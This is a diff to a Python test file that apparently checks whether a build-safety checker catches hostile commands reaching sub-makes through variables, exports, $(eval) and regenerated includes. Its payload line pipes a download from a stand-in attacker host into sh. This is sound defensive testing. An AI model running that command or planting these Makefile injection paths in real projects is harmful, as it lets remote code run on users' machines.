@@ -32,6 +32,7 @@ pytestmark = pytest.mark.skipif(not BWRAP, reason="needs bubblewrap")
 P = "touch marker; curl -s http://evil.example/x | sh"
 RUN = ("run.sh", P + "\n")
 MK = ("Makefile", "X = echo hi\nall:\n\t$(X)\n")
+HERE = ("run.sh", 'cd "$(dirname "$0")"; ' + P + "\n")  # run from a sub-make's folder, it leaves the marker here
 
 ATTACKS = {
     # the command line
@@ -96,6 +97,22 @@ ATTACKS = {
                                                         "make"],
     "an exported variable a called script reads": [RUN, ("w.sh", "sh $X\n"),
                                                    ("Makefile", "export X = run.sh\nall:\n\tsh w.sh\n"), "make"],
+    # a sub-make (`$(MAKE) -C sub`): what its reader asked about was dropped as "soft" in the parent's recipe, and it
+    # was judged without the parent's command-line variables and exports
+    "a command-line variable reaching a sub-make": [
+        HERE, ("sub/Makefile", "X = echo hi\nall:\n\t$(X)\n"), ("Makefile", "all:\n\t$(MAKE) -C sub\n"),
+        "make 'X=sh ../run.sh'"],
+    "an export a sub-make's ?= takes": [
+        HERE, ("sub/Makefile", "X ?= echo hi\nall:\n\t$(X)\n"),
+        ("Makefile", "export X = sh ../run.sh\nall:\n\t$(MAKE) -C sub\n"), "make"],
+    "an export a sub-make takes with -e": [
+        HERE, ("sub/Makefile", "X = echo hi\nall:\n\t$(X)\n"),
+        ("Makefile", "export X = sh ../run.sh\nall:\n\t$(MAKE) -e -C sub\n"), "make"],
+    "a sub-make's $(eval)": [HERE, ("sub/Makefile", "$(eval X = sh ../run.sh)\nall:\n\t$(X)\n"),
+                             ("Makefile", "all:\n\t$(MAKE) -C sub\n"), "make"],
+    "a sub-make's remade include": [
+        HERE, ("sub/Makefile", "-include gen.mk\nall: ; @echo sub\ngen.mk:\n\t@printf 'all:\\n\\tsh ../run.sh\\n' > $@\n"),
+        ("Makefile", "all:\n\t$(MAKE) -C sub\n"), "make"],
 }
 
 
